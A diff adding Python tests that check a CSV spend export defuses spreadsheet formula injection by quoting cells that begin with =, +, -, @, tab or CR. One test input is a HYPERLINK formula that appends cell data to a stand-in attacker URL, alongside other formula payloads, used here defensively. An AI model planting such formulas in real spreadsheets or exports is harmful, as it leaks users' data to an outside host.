@@ -470,3 +470,28 @@ def test_the_edit_form_estimate_counts_its_input_images(client, cast, project):
     # 1,300 image tokens an input at $8/M.
     assert "Estimated cost <strong>$0.015</strong>" in one  # 1 text*5 + 1300*8 + 167*30 = 15,415 µ$
     assert "Estimated cost <strong>$0.036</strong>" in three  # 1 text*5 + 3900*8 + 167*30 = 36,215 µ$
+
+
+def test_csv_cells_that_look_like_formulas_arrive_as_text(client, cast, standin):
+    """OWASP CSV injection: a name starting with = + - @ tab or CR gets a leading quote."""
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
+    for name in names:
+        project = ProjectFactory(name=name, created_by=cast.alice)
+        run(create_job(project=project, author=cast.alice, quality="low"))
+    ProjectFactory(name="Plain name", created_by=cast.alice)
+    client.force_login(cast.sam)
+    rows = list(csv.reader(io.StringIO(client.get(reverse("spend_csv")).content.decode(), newline="")))
+    projects = {row[1] for row in rows if row[0] == "project"}
+    assert projects == {"'" + name for name in names}
+    # Numbers stay numbers.
+    total = next(row for row in rows if row[0] == "total")
+    assert Decimal(total[2]) > 0
+
+
+def test_csv_cell_leaves_safe_values_alone():
+    from workspace.views.spend import csv_cell
+
+    assert csv_cell("Spring campaign") == "Spring campaign"
+    assert csv_cell(Decimal("-1.5")) == Decimal("-1.5")
+    assert csv_cell("") == ""
+    assert csv_cell("=1") == "'=1"
